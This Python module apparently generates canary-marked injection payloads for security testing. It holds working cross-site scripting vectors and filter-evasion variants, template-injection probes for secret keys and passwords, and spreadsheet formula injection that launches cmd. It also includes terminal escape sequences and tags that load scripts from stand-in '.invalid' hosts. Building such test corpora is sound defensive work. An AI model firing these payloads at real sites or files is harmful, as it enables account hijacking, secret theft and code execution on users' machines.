"""Script payloads 脚本试探: more than three hundred texts that would run if a page took them for more than text.

Made by combining families; each carries a mark of its own, by which it is known again wherever it turns up. Our own
list: shapes are common knowledge, no collection was copied.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import count, product
from urllib.parse import quote

MARK = "xq"

TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object",
    "textarea autofocus", "a href=x", "select autofocus",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
CLOSERS = (
    '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "</select>", "</template>", "</noscript>",
    '" ', "' ", "` ", '\\">', "]]>", "</option></select>", "</p></td></table>",
)  # fmt: skip
CORES = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg/onload={call}>",
    "<b onmouseover={call}>x",
)
SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    " javascript:{call}",
    "javascript&colon;{call}",
    "&#106;avascript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "//{mark}.invalid/x.js",
)
HOLDERS = (
    "{url}",
    "<a href='{url}'>x</a>",
    "[x]({url})",
    "<iframe src='{url}'>",
    "<form action='{url}'><button>x",
)
STRINGS = (
    "';{call};//",
    '";{call};//',
    "`;{call};//",
    "${{{call}}}",
    "\\';{call};//",
    "\\u0027;{call};//",
    "'+{call}+'",
    '"+{call}+"',
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "</script><script>{call}</script>",
    "\u2028{call}\u2029",
    "*/{call}/*",
    "<!--<script>{call}",
    "0;{call}",
)
TEMPLATES = (
    "{{{{ {call} }}}}",
    "{{% include '{mark}' %}}",
    "{{{{ request.user.password }}}}{mark}",
    "{{{{ settings.SECRET_KEY }}}}{mark}",
    "{{{{ constructor.constructor('{call}')() }}}}",
    "{{% load static %}}{mark}",
    "{{% debug %}}{mark}",
    "<%= {call} %>",
    "#{{{call}}}",
    "[[{call}]]",
    "%(key)s{mark}",
    "{{0.__class__}}{mark}",
    "${{7*7}}{mark}",
    "{{# {mark} #}}<b onmouseover={call}>",
)
STYLES = (
    "<style>@import '//{mark}.invalid/a.css';</style>",
    "<style>*{{background:url(javascript:{call})}}</style>",
    "<p style=\"background:url('javascript:{call}')\">x",
    '<div style="animation-name:x" onanimationstart={call}>x',
    "</style><style>@keyframes x{{}}</style><b style=animation:x onanimationend={call}>",
    "<link rel=stylesheet href=//{mark}.invalid/a.css>",
    '"style="position:fixed;inset:0" onpointermove="{call}',
)
DRAWINGS = (
    "<svg><script>{call}</script></svg>",
    "<svg><script href=data:,{call} /></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{call}>",
    "<svg><foreignObject><body onload={call}></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{call}'/>#x\">",
    "<svg><a xlink:href=javascript:{call}><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<math href=javascript:{call}>x</math>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    '<svg></p><style><a id="</style><img src=x onerror={call}>">',
)
SHAPES = (
    "＜script＞{call}＜/script＞",
    "﹤script﹥{call}﹤/script﹥",
    "<scr\u200bipt>{call}</script>",
    "<scr<script>ipt>{call}</script>",
    "<\u202escript>{call}</script>",
    "\u202e{call}\u202c<b>",
    "<ſcript>{call}</ſcript>",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "<ScRiPt>{call}</sCrIpT>",
    "<script >{call}</script >",
    "<script\n>{call}</script\t>",
    "<script/x>{call}</script>",
    "<img/src=x/onerror={call}>",
    "<img src=x onerror\n=\n{call}>",
    "<img src=`x` onerror={call}>",
    "<<script>{call}//<</script>",
    "<script>{call}",
    "<img src=x onerror={call}//",
    "客户<script>{call}</script>反映",
    "\ufeff<script>{call}</script>",
)
DOCUMENTS = (
    "<base href=//{mark}.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<meta http-equiv=Set-Cookie content='{mark}=1'>",
    "<object data=//{mark}.invalid/x></object>",
    "<embed src=//{mark}.invalid/x>",
    "<frameset onload={call}>",
    "<form id=main name={mark}><input name=action></form>",
    "<a id=document name={mark}>x</a>",
    "<link rel=import href=//{mark}.invalid/x>",
    "<link rel=prefetch href=//{mark}.invalid/x>",
    "<portal src=//{mark}.invalid/x>",
    "<script src=//{mark}.invalid/x.js></script>",
    "<script type=module>import '//{mark}.invalid/x.js'</script>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<marquee onstart={call}>x</marquee>",
    "<button popovertarget=x>y</button><p id=x popover onbeforetoggle={call}>{mark}",
    "<div contenteditable onblur={call} autofocus>x</div>",
    "<dialog open onclose={call}><form method=dialog><button>x",
    "<select onchange={call}><option>1<option>2</select>",
    "<keygen autofocus onfocus={call}>",
    "<isindex action=javascript:{call} type=image>",
    "<x-{mark} onclick={call}>x</x-{mark}>",
)
FORMULAS = (
    '=HYPERLINK("//{mark}.invalid/","{call}")',
    "+cmd|' /C calc'!A0{mark}",
    "@SUM(1)*cmd|'{mark}'!A0",
    "-2+3+cmd|'{mark}'!A0",
    "\t=1+1{mark}",
    '=IMPORTXML(CONCAT("//{mark}.invalid/",A1),"//a")',
)
TERMINALS = ("\x1b]0;{mark}\x07", "\x1b[2J\x1b[31m{mark}", "\x9b31m{mark}", "{mark}\r\x1b[1A{call}")
CODINGS = (
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: base64.b64encode(text.encode()).decode() + text[-12:],
    lambda text: text.replace("<", "%u003c").replace(">", "%u003e"),
)
COMBINED = (
    *(f"<{tag} {event}={{call}}>" for tag, event in product(TAGS, EVENTS)),
    *(closer + core for closer, core in product(CLOSERS, CORES)),
    *(holder.replace("{url}", scheme) for holder, scheme in product(HOLDERS, SCHEMES)),
)
WRITTEN = (*STRINGS, *TEMPLATES, *STYLES, *DRAWINGS, *SHAPES, *DOCUMENTS, *FORMULAS, *TERMINALS)


def _all() -> Iterator[str]:
    numbers = count(100)
    for shape in (*COMBINED, *WRITTEN):
        mark = f"{MARK}{next(numbers)}"
        yield shape.format(call=f"canary('{mark}')", mark=mark)
    for coding, core in product(CODINGS, CORES):
        mark = f"{MARK}{next(numbers)}"
        text = core.format(call=f"canary('{mark}')")
        yield f"{mark}{coding(text)}"


PAYLOADS: tuple[str, ...] = tuple(_all())
